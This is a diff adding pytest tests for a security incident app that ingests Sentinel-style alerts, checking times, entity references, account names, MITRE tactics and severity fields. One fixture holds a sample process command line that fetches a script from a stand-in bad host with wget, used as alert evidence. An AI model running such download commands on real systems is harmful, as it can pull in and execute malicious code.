@@ -1,0 +1,59 @@
+import json
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+
+from incidents.models import Alert
+from tests.factories.wire import sentinel_alert, stored
+
+pytestmark = pytest.mark.django_db
+
+HOST = {"$id": "1", "HostName": "SRV-07", "DnsDomain": "corp.example", "Type": "host"}
+ACCOUNT = {"$id": "2", "Name": "ian", "UPNSuffix": "corp.example", "Host": {"$ref": "1"}, "Type": "account"}
+
+
+def became(*entities: dict[str, Any], **fields: Any) -> Alert:
+    return stored(sentinel_alert(*entities, **fields), format="sentinel")[0]
+
+
+def test_times_without_a_zone_are_utc() -> None:
+    alert = became(StartTime="2026-11-03T08:15:00.123", EndTime="2026-11-03T08:20:00")
+    assert alert.first_activity == datetime(2026, 11, 3, 8, 15, 0, 123000, tzinfo=UTC)
+
+
+def test_references_between_entities_are_followed() -> None:
+    image = {"$id": "3", "Directory": "/usr/bin", "Name": "wget", "Type": "file"}
+    command = {"$id": "4", "CommandLine": "wget http://bad.example/x.sh", "ImageFile": {"$ref": "3"},
+               "Host": {"$ref": "1"}, "Type": "process"}  # fmt: skip
+    seen = became(HOST, image, command).evidence.get(type="process")
+    assert seen.device is not None
+    assert seen.device.key == "srv-07.corp.example"
+
+
+def test_an_entity_inside_another_counts_too() -> None:
+    inside = {"$id": "9", "Name": "eva", "Host": {**HOST, "$id": "10"}, "Type": "account"}
+    assert set(became(inside).evidence.values_list("type", flat=True)) == {"user", "device"}
+
+
+def test_accounts_get_their_principal_name_from_the_suffix() -> None:
+    assert became(HOST, ACCOUNT).evidence.get(type="user").display == "ian@corp.example"
+
+
+def test_tactics_and_techniques_are_read_in_both_spellings() -> None:
+    alert = became(Tactics="InitialAccess, LateralMovement", Techniques='["T1078"]')
+    assert (alert.categories, alert.mitre_techniques) == (["InitialAccess", "LateralMovement"], ["T1078"])
+
+
+def test_extended_properties_are_kept_as_an_object() -> None:
+    alert = became(ExtendedProperties=json.dumps({"Compromised Host": "SRV-07"}))
+    assert alert.additional_data["ExtendedProperties"] == {"Compromised Host": "SRV-07"}
+
+
+def test_an_older_row_has_its_severity_in_another_field() -> None:
+    assert became(AlertSeverity=None, Severity="High").severity == "high"
+
+
+@pytest.mark.parametrize("broken", ["[{", "null", "7", '{"$ref": "1"}', '[{"$id": "1", "Host": {"$ref": "1"}}]'])
+def test_broken_entities_cost_the_evidence_not_the_alert(broken: str) -> None:
+    assert became(Entities=broken).title == "Impossible travel"
